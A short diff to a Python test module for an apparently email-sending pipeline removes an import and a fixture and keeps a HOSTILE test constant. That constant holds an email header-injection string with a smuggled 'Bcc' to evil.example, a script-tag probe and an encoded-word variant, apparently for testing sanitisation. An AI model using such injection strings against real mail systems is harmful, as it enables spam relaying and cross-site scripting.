@@ -17,15 +17,8 @@ from tests.pipelines.answering import ANNA, QUESTION, READER, SENTENCE, decide, 
 from tests.pipelines.at_home import Story, moved, outbox, rows, write
 from tests.pipelines.conftest import Duiding
 from tests.pipelines.office import Office, by_smtp
-from tests.pipelines.test_sending import publish
 
 HOSTILE = "Huur\r\nBcc: victim@evil.example\r\n\r\n<script>alert(1)</script> =?utf-8?q?=0aBcc:_x=40evil.example?="
-
-
-@pytest.fixture(scope="module")
-def out_once(filled: Home, tmp_path_factory: pytest.TempPathFactory) -> Home:
-    """A home whose issue is out to one reader; made once, for copying."""
-    return publish(moved(filled, tmp_path_factory.mktemp("out") / "home", Story()), [READER.email])
 
 
 @pytest.fixture
